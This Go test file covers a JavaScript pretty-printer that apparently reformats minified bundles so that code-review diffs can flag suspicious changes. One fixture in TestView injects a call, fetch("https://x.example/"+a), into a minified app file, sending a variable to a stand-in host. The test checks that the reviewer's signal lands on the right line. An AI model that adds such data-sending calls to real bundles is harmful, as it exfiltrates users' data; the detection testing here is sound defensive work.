package pretty

import (
	"context"

	"bytes"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stagegate/stagegate/internal/diff"
)

func TestJS(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"statements", "a=1;b=2", "a = 1;\nb = 2\n"},
		{"function", "function f(a,b){return a+b}", "function f(a, b) {\n  return a+b\n}\n"},
		{"if else", "if(a){b()}else{c()}", "if (a) {\n  b()\n} else {\n  c()\n}\n"},
		{"object", "var o={a:1,b:{c:2}};", "var o = {\n  a: 1,\n  b: {\n    c: 2\n  }\n};\n"},
		{"empty braces", "function f(){}g()", "function f() {}\ng()\n"},
		{"strings verbatim", `x="a;b{c}",y='\x65val'+"l"`, `x = "a;b{c}", y = '\x65val'+"l"` + "\n"},
		{"template inline", "a=`x${f({k:1})}y\nz`;d()", "a = `x${f({k: 1})}y\nz`;\nd()\n"},
		{"line comment", "a()//c\nb()", "a()//c\nb()\n"},
		{"block comment", "a();/* x;y */b()", "a();\n/* x;y */b()\n"},
		{"regex", "a=/;{/.test(b);c", "a = /;{/.test(b);\nc\n"},
		{"for", "for(i=0;i<n;i++){x()}", "for (i = 0; i < n; i++) {\n  x()\n}\n"},
		{"arrow body", "f=a=>{g()}", "f = a => {\n  g()\n}\n"},
		{"arrow object", "f=a=>({k:a,j:1})", "f = a => ({\n  k: a,\n  j: 1\n})\n"},
		{"ternary", "x=a?b:c", "x = a ? b : c\n"},
		{"json", `{"a":[1,2],"b":{"c":null}}`, "{\n  \"a\": [1, 2],\n  \"b\": {\n    \"c\": null\n  }\n}\n"},
		{"raw newline kept", "a=1\nb=2", "a = 1\nb = 2\n"},
		{"hashbang", "#!/usr/bin/env node\nx()", "#!/usr/bin/env node\nx()\n"},
		{"iife", "!function(){a();b()}();", "!function() {\n  a();\n  b()\n}();\n"},
		{"try", "try{a()}catch(e){b()}finally{c()}", "try {\n  a()\n} catch (e) {\n  b()\n} finally {\n  c()\n}\n"},
		{"switch", "switch(a){case 1:b();break;default:c()}", "switch (a) {\n  case 1:b();\n  break;\n  default:c()\n}\n"},
		{"empty", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := JS([]byte(tc.in))
			if err != nil {
				t.Fatal(err)
			}
			if string(got.Data) != tc.want {
				t.Errorf("JS(%q)\n got %q\nwant %q", tc.in, got.Data, tc.want)
			}
			checkText(t, []byte(tc.in), got)
		})
	}
}

func TestMapping(t *testing.T) {
	src := []byte("x=0\nvar a=1;b=2;fetch(u);c=3")
	tx, err := JS(src)
	if err != nil {
		t.Fatal(err)
	}
	// x = 0 | var a = 1; | b = 2; | fetch(u); | c = 3
	for _, tc := range []struct {
		name string
		got  int
		want int
	}{
		{"offset 0", tx.LineOf(0), 1},
		{"inside line 1", tx.LineOf(2), 1},
		{"var", tx.LineOf(4), 2},
		{"b", tx.LineOf(14), 3},
		{"past the end", tx.LineOf(len(src) + 10), 5},
		{"raw line 1", tx.LineOfRawLine(src, 1), 1},
		{"raw line 2", tx.LineOfRawLine(src, 2), 2},
		{"raw line past the end", tx.LineOfRawLine(src, 9), 5},
		{"located snippet", tx.LineOf(Locate(src, 2, "fetch(u);c=3", 0)), 4},
		{"clipped snippet", tx.LineOf(Locate(src, 2, "b=2;fetch(u)…", 4)), 4},
		{"snippet not on the line", tx.LineOf(Locate(src, 1, "fetch", 0)), 1},
		{"no snippet", tx.LineOf(Locate(src, 2, "", 0)), 2},
	} {
		if tc.got != tc.want {
			t.Errorf("%s: line %d, want %d", tc.name, tc.got, tc.want)
		}
	}
}

func TestTooLarge(t *testing.T) {
	src := bytes.Repeat([]byte("{a,"), 200_000)
	if _, err := JS(src); err != ErrTooLarge {
		t.Fatalf("err %v, want ErrTooLarge", err)
	}
}

func TestSupports(t *testing.T) {
	for p, want := range map[string]bool{"dist/a.min.js": true, "a.MJS": true, "x.cjs": true, "p.json": true, "a.ts": false, "a.css": false, "js": false} {
		if Supports(p) != want {
			t.Errorf("Supports(%q) = %v", p, !want)
		}
	}
}

// checkText asserts what every print must keep: only whitespace changes,
// the map has one raw offset per line, in order, each at the raw bytes the
// line starts with, and the size stays bounded.
func checkText(t *testing.T, src []byte, tx *Text) {
	t.Helper()
	if a, b := stripSpace(src), stripSpace(tx.Data); !bytes.Equal(a, b) {
		t.Fatalf("print changed more than whitespace:\n in %q\nout %q", a, b)
	}
	lines := bytes.SplitAfter(tx.Data, []byte("\n"))
	if len(lines) > 0 && len(lines[len(lines)-1]) == 0 {
		lines = lines[:len(lines)-1]
	}
	if len(lines) != len(tx.Raw) {
		t.Fatalf("%d lines, %d raw offsets", len(lines), len(tx.Raw))
	}
	if len(tx.Data) > 0 && tx.Data[len(tx.Data)-1] != '\n' {
		t.Fatalf("output does not end in a newline")
	}
	for k, off := range tx.Raw {
		if off < 0 || int(off) > len(src) || k > 0 && off < tx.Raw[k-1] {
			t.Fatalf("raw offset %d of line %d out of order or range", off, k+1)
		}
		l := bytes.TrimLeft(lines[k], " \t\n")
		r := bytes.TrimLeft(src[off:], " \t\r\n")
		if len(l) > 0 && len(r) > 0 && l[0] != r[0] {
			t.Fatalf("line %d %q does not start at raw offset %d (%q)", k+1, lines[k], off, r[:min(len(r), 20)])
		}
	}
	if len(tx.Data) > growth*len(src)+slack {
		t.Fatalf("output %d bytes for %d", len(tx.Data), len(src))
	}
}

func stripSpace(b []byte) []byte {
	out := make([]byte, 0, len(b))
	for len(b) > 0 {
		r, n := utf8.DecodeRune(b)
		if !(r != utf8.RuneError && (unicode.IsSpace(r) || r == 0xFEFF)) {
			out = append(out, b[:n]...)
		}
		b = b[n:]
	}
	return out
}

func FuzzJS(f *testing.F) {
	for _, s := range []string{
		"a=1;b=2", "function f(){return{a:1,b:[2,3]}}", "x=`a${b}c${{d:1}}`", "a=/[/]{/g;b", "#!/bin/sh\n{{{}}}",
		"if(a)b();else{c()}", "/* unterminated", "'unterminated", "a\u00a0b\u2028c", "}}}{{{", "x=\"\\\n\"",
		strings.Repeat("{", 100), "a?b?c:d:e", "case 1:{x;y}",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		tx, err := JS(src)
		if err == ErrTooLarge {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		checkText(t, src, tx)
		for k := range tx.Raw {
			if got := tx.LineOf(int(tx.Raw[k])); tx.Raw[k] != tx.Raw[got-1] {
				t.Fatalf("LineOf(%d) = %d", tx.Raw[k], got)
			}
		}
	})
}

func TestView(t *testing.T) {
	old := "!function(){var a=1;function f(b){return b+a}g(f(2));h()}();"
	new := "!function(){var a=1;function f(b){return b+a}g(f(2));fetch(\"https://x.example/\"+a);h()}();"
	fd := &diff.FileDiff{Path: "dist/app.min.js", Status: diff.Modified, Minified: true, Old: []byte(old), New: []byte(new)}
	if !Eligible(fd) {
		t.Fatal("not eligible")
	}
	v, err := Diff(context.Background(), fd, diff.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if v.File.LinesAdded != 1 || v.File.LinesRemoved != 0 || v.File.Status != diff.Modified {
		t.Fatalf("+%d -%d %s, want one added line", v.File.LinesAdded, v.File.LinesRemoved, v.File.Status)
	}
	var added []string
	for _, h := range v.File.Hunks {
		for _, l := range h.Lines {
			if l.Kind == diff.Add {
				added = append(added, l.Text)
			}
		}
	}
	if want := `  fetch("https://x.example/"+a);`; len(added) != 1 || added[0] != want {
		t.Fatalf("added %q, want %q", added, want)
	}
	// A signal on raw line 1 quoting the fetch lands on its printed line.
	hint := `f(2));fetch("https://x.example/"+a);h()}();`
	if got, want := v.Line(1, false, hint), 7; got != want {
		t.Errorf("signal line %d, want %d\n%s", got, want, v.New.Data)
	}
	if got := v.Line(1, false, ""); got != 1 {
		t.Errorf("no hint: line %d, want 1", got)
	}
	if got := v.Line(1, true, "h()"); got != 7 {
		t.Errorf("old side: line %d, want 7", got)
	}
	for _, fd := range []*diff.FileDiff{
		{Path: "a.min.js", Minified: false, New: []byte("x")},
		{Path: "a.min.css", Minified: true, New: []byte("x")},
		{Path: "a.min.js", Minified: true},
		{Path: "a.min.js", Minified: true, Binary: true, New: []byte("x")},
	} {
		if Eligible(fd) {
			t.Errorf("%+v eligible", fd)
		}
	}
}
